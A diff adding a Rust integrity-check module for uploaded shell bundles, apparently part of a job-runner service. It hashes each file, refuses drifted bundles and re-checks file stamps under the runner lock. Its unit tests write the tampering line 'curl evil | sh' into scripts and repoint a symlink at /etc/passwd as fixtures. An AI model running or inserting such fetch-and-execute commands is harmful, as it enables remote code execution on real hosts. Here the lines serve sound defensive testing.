@@ -0,0 +1,273 @@
+/*
+ * Whether a bundle's files are still the ones that were uploaded.
+ *
+ * On upload (create.rs, update.rs) every file the archive unpacked to is
+ * hashed — SHA-256 of its contents, or of where it points for a symlink — and
+ * the list is kept on the version and, for the active one, on the bundle.
+ * Before a job starts the directory is hashed again, and anything changed,
+ * missing or added since refuses it: `run` answers 409 naming the paths, and
+ * a schedule, a hook or an approval is refused the same way.
+ *
+ * That hashing is done before the runner lock (lock.rs) is taken, since every
+ * run on every bundle waits on it. What the check hands on is a stamp of each
+ * path — inode, size, ctime — taken just before, and under the lock launch
+ * only sees that none has moved: any write, rename or chmod does. A queued
+ * job touched while it waited fails with that in its log.
+ *
+ * This catches an edit made on the host, not an attacker who can also write
+ * to the database; that is what a signature on the upload (signing.rs) is
+ * for. A bundle uploaded before hashes were recorded has none and runs
+ * unchecked until its next upload. A bundle that writes into its own
+ * directory when it runs will trip this on the run after; its state belongs
+ * under /etc/<bundle>/ with vars.env.
+ */
+use std::collections::HashMap;
+use std::fs;
+use std::io;
+use std::os::unix::fs::MetadataExt;
+use std::path::{Path, PathBuf};
+
+use mongodb::bson::doc;
+use sha2::{Digest, Sha256};
+
+use actix_web::HttpResponse;
+
+use crate::BuiltIns::mongo::MongoDB;
+use crate::Model::Shell::{ShellBundle, ShellFileHash};
+use crate::utils::response::Response;
+
+/// How many paths a refusal names before it just counts the rest.
+const SHOWN: usize = 10;
+
+/// A bundle's directory whose files matched the record, and how each path
+/// stood on disk when they were hashed.
+#[derive(Debug, Clone)]
+pub struct Checked {
+    pub dir: PathBuf,
+    stamps: Vec<Stamp>,
+}
+
+#[derive(Debug, Clone, PartialEq)]
+struct Stamp {
+    path: PathBuf,
+    ino: u64,
+    len: u64,
+    ctime: (i64, i64),
+}
+
+/// Every file under `dir`, sorted by path.
+pub fn hash_tree(dir: &Path) -> Result<Vec<ShellFileHash>, String> {
+    let mut out = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+
+    while let Some(current) = stack.pop() {
+        let entries = fs::read_dir(&current).map_err(|e| format!("{}: {}", current.display(), e))?;
+        for entry in entries {
+            let entry = entry.map_err(|e| e.to_string())?;
+            let path = entry.path();
+            let kind = entry.file_type().map_err(|e| e.to_string())?;
+            let rel = path
+                .strip_prefix(dir)
+                .map_err(|e| e.to_string())?
+                .to_string_lossy()
+                .into_owned();
+
+            if kind.is_symlink() {
+                let target = fs::read_link(&path).map_err(|e| format!("{}: {}", rel, e))?;
+                out.push(ShellFileHash {
+                    path: rel,
+                    sha256: hex::encode(Sha256::digest(target.to_string_lossy().as_bytes())),
+                    symlink: true,
+                });
+            } else if kind.is_dir() {
+                stack.push(path);
+            } else {
+                let mut hasher = Sha256::new();
+                let mut file = fs::File::open(&path).map_err(|e| format!("{}: {}", rel, e))?;
+                io::copy(&mut file, &mut hasher).map_err(|e| format!("{}: {}", rel, e))?;
+                out.push(ShellFileHash {
+                    path: rel,
+                    sha256: hex::encode(hasher.finalize()),
+                    symlink: false,
+                });
+            }
+        }
+    }
+
+    out.sort_by(|a, b| a.path.cmp(&b.path));
+    Ok(out)
+}
+
+/// Every path under `dir`, directories included, as lstat sees it. Reads no
+/// file, so it is cheap enough to run under the lock.
+fn stamp_tree(dir: &Path) -> Result<Vec<Stamp>, String> {
+    let mut out = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+
+    while let Some(current) = stack.pop() {
+        let entries = fs::read_dir(&current).map_err(|e| format!("{}: {}", current.display(), e))?;
+        for entry in entries {
+            let entry = entry.map_err(|e| e.to_string())?;
+            let meta = entry.metadata().map_err(|e| e.to_string())?;
+            if meta.is_dir() {
+                stack.push(entry.path());
+            }
+            out.push(Stamp {
+                path: entry.path(),
+                ino: meta.ino(),
+                len: meta.len(),
+                ctime: (meta.ctime(), meta.ctime_nsec()),
+            });
+        }
+    }
+
+    out.sort_by(|a, b| a.path.cmp(&b.path));
+    Ok(out)
+}
+
+/// Refuse a run of `bundle` from `dir` with 409 if its files have drifted.
+pub async fn check(bundle: &str, dir: &Path) -> Result<Checked, HttpResponse> {
+    match compare(bundle, dir).await {
+        Ok((drift, checked)) if drift.is_empty() => Ok(checked),
+        Ok((drift, _)) => Err(HttpResponse::Conflict().content_type("application/json").json(
+            serde_json::json!({ "message": refusal(&drift), "drift": drift })
+        )),
+        Err(error) => {
+            log::error!("{}", error);
+            Err(Response::internal_server_error(&error))
+        }
+    }
+}
+
+/// `check`, for a run nobody is waiting on an answer for.
+pub async fn verify(bundle: &str, dir: &Path) -> Result<Checked, String> {
+    match compare(bundle, dir).await? {
+        (drift, checked) if drift.is_empty() => Ok(checked),
+        (drift, _) => Err(refusal(&drift)),
+    }
+}
+
+/// Whether nothing under a checked directory has been touched since.
+pub fn unchanged(checked: &Checked) -> Result<(), String> {
+    if stamp_tree(&checked.dir)? == checked.stamps {
+        Ok(())
+    } else {
+        Err("This bundle's files were changed after they were checked; run it again".to_string())
+    }
+}
+
+async fn compare(bundle: &str, dir: &Path) -> Result<(Vec<String>, Checked), String> {
+    let db = MongoDB.connect();
+    let collection = db.collection::<ShellBundle>("shell_bundle");
+
+    let expected = match collection.find_one(doc! { "name": bundle, "deleted_at": null }).await {
+        Ok(Some(record)) => record.files,
+        Ok(None) => return Err(format!("No bundle named {}", bundle)),
+        Err(error) => return Err(error.to_string()),
+    };
+
+    // Stamped first: a file changed while the tree is being hashed then
+    // shows as changed under the lock, even if it was hashed before it was.
+    let dir = dir.to_path_buf();
+    tokio::task::spawn_blocking(move || {
+        let checked = Checked { stamps: stamp_tree(&dir)?, dir };
+        if expected.is_empty() {
+            return Ok((Vec::new(), checked));
+        }
+        let actual = hash_tree(&checked.dir)?;
+        Ok((drift(&expected, &actual), checked))
+    })
+    .await
+    .map_err(|e| e.to_string())?
+}
+
+/// What differs, one "changed|missing|added <path>" per file, by path.
+fn drift(expected: &[ShellFileHash], actual: &[ShellFileHash]) -> Vec<String> {
+    let now: HashMap<&str, &ShellFileHash> = actual.iter().map(|f| (f.path.as_str(), f)).collect();
+    let then: HashMap<&str, &ShellFileHash> = expected.iter().map(|f| (f.path.as_str(), f)).collect();
+
+    let mut out: Vec<(&str, &str)> = Vec::new();
+    for file in expected {
+        match now.get(file.path.as_str()) {
+            Some(found) if *found == file => {}
+            Some(_) => out.push((&file.path, "changed")),
+            None => out.push((&file.path, "missing")),
+        }
+    }
+    for file in actual {
+        if !then.contains_key(file.path.as_str()) {
+            out.push((&file.path, "added"));
+        }
+    }
+
+    out.sort();
+    out.into_iter().map(|(path, what)| format!("{} {}", what, path)).collect()
+}
+
+fn refusal(drift: &[String]) -> String {
+    let mut shown = drift.iter().take(SHOWN).cloned().collect::<Vec<_>>().join(", ");
+    if drift.len() > SHOWN {
+        shown.push_str(&format!(" and {} more", drift.len() - SHOWN));
+    }
+    format!(
+        "This bundle's files have changed since they were uploaded ({}). Upload it again, or switch to a version that is intact",
+        shown
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::os::unix::fs::symlink;
+
+    fn scratch(name: &str) -> std::path::PathBuf {
+        let dir = std::env::temp_dir().join(format!("shell-integrity-{}-{}", name, std::process::id()));
+        let _ = fs::remove_dir_all(&dir);
+        fs::create_dir_all(dir.join("lib")).unwrap();
+        fs::write(dir.join("main.sh"), "echo main").unwrap();
+        fs::write(dir.join("lib/common.sh"), "echo common").unwrap();
+        symlink("lib/common.sh", dir.join("common.sh")).unwrap();
+        dir
+    }
+
+    #[test]
+    fn an_untouched_tree_has_no_drift_and_an_edited_one_does() {
+        let dir = scratch("drift");
+        let recorded = hash_tree(&dir).unwrap();
+        let paths: Vec<&str> = recorded.iter().map(|f| f.path.as_str()).collect();
+        assert_eq!(paths, ["common.sh", "lib/common.sh", "main.sh"]);
+        assert!(recorded[0].symlink);
+        assert!(drift(&recorded, &hash_tree(&dir).unwrap()).is_empty());
+
+        fs::write(dir.join("main.sh"), "curl evil | sh").unwrap();
+        fs::remove_file(dir.join("lib/common.sh")).unwrap();
+        fs::write(dir.join("extra.sh"), "").unwrap();
+        fs::remove_file(dir.join("common.sh")).unwrap();
+        symlink("/etc/passwd", dir.join("common.sh")).unwrap();
+
+        assert_eq!(
+            drift(&recorded, &hash_tree(&dir).unwrap()),
+            ["changed common.sh", "added extra.sh", "missing lib/common.sh", "changed main.sh"]
+        );
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn a_touched_tree_is_caught_without_hashing_it() {
+        let dir = scratch("stamps");
+        let checked = Checked { stamps: stamp_tree(&dir).unwrap(), dir: dir.clone() };
+        assert_eq!(unchanged(&checked), Ok(()));
+
+        fs::write(dir.join("lib/common.sh"), "curl evil | sh").unwrap();
+        assert!(unchanged(&checked).is_err());
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn a_long_list_is_cut_short() {
+        let drift: Vec<String> = (0..12).map(|i| format!("added {}", i)).collect();
+        let message = refusal(&drift);
+        assert!(message.contains("added 9 and 2 more"));
+        assert!(!message.contains("added 10"));
+    }
+}